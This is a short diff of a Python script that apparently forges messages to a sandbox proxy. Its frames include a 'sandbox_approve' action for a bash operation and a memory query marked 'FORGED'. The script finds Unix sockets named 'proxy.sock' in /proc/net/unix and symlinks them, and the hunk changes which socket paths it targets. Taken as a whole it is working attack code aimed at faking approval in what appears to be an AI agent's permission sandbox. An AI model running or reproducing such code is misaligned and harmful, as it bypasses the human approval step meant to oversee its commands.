@@ -506,7 +506,7 @@ frames = [{"_msgId": "900", "action": "sandbox_approve", "operation": "bash", "c
     {"_msgId": "903", "action": "memory_list", "scope": "FORGED"}]
 path = sys.argv[1] if len(sys.argv) > 1 else ""
 names = {line.split()[-1] for line in open("/proc/net/unix") if line.rstrip().endswith("proxy.sock")} | ({path} if path else set())
-mine = sorted(name for name in names if name.startswith(os.path.dirname(os.path.dirname(os.getcwd()))) or name == path)
+mine = sorted(name for name in names if name.startswith(os.path.dirname(os.getcwd())) or name == path)
 print("known", len(mine))
 for name in mine:
     os.symlink(name, "lnk"); os.symlink(os.path.dirname(name), "dlnk")
